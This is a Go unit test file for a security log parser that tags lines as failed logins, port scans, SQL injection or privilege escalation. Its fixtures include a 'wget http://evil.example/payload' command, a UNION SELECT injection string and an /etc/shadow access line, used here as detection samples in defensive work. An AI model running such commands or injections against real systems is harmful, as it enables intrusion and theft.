package capture

import (
	"testing"
)

func TestParseLineIndicators(t *testing.T) {
	lp := NewLogParser(nil)
	tests := []struct {
		name string
		line string
		want string
	}{
		{"failed login", "Failed password for invalid user admin from 10.0.0.5", IndicatorFailedLogin},
		{"port scan", "Nmap scan detected from external host", IndicatorPortScan},
		{"suspicious command", "user ran: wget http://evil.example/payload", IndicatorSuspiciousCommand},
		{"sql injection", "query rejected: UNION SELECT * FROM users;--", IndicatorSQLInjection},
		{"privilege escalation", "sudo: 3 incorrect password attempts, possible escalation", IndicatorPrivilegeEscalation},
		{"access violation", "open /etc/shadow: permission denied", IndicatorAccessViolation},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev := lp.ParseLine(tt.line, "test")
			found := false
			for _, ind := range ev.Indicators {
				if ind == tt.want {
					found = true
				}
			}
			if !found {
				t.Errorf("indicators %v missing %q", ev.Indicators, tt.want)
			}
		})
	}
}

func TestParseLineSeverity(t *testing.T) {
	lp := NewLogParser(nil)

	ev := lp.ParseLine("query rejected: UNION SELECT 1", "webapp")
	if ev.Severity != "CRITICAL" {
		t.Errorf("sql injection severity = %q, want CRITICAL", ev.Severity)
	}

	ev = lp.ParseLine("Failed password for user bob", "sshd")
	if ev.Severity != "WARNING" {
		t.Errorf("failed login severity = %q, want WARNING", ev.Severity)
	}

	ev = lp.ParseLine("session opened for user alice", "sshd")
	if ev.Severity != "INFO" {
		t.Errorf("benign line severity = %q, want INFO", ev.Severity)
	}
	if len(ev.Indicators) != 0 {
		t.Errorf("benign line indicators = %v", ev.Indicators)
	}
}

func TestParseLinesSkipsBlank(t *testing.T) {
	lp := NewLogParser(nil)
	events := lp.ParseLines([]string{
		"Failed password for root",
		"   ",
		"",
		"session opened",
	}, "sshd")
	if len(events) != 2 {
		t.Fatalf("got %d events, want 2", len(events))
	}
}

func TestParseLineDeterministicOrder(t *testing.T) {
	lp := NewLogParser(nil)
	line := "sudo failed: permission denied running nmap"
	first := lp.ParseLine(line, "audit")
	for i := 0; i < 10; i++ {
		got := lp.ParseLine(line, "audit")
		if len(got.Indicators) != len(first.Indicators) {
			t.Fatal("indicator count varies between runs")
		}
		for j := range got.Indicators {
			if got.Indicators[j] != first.Indicators[j] {
				t.Fatalf("indicator order varies: %v vs %v", got.Indicators, first.Indicators)
			}
		}
	}
}
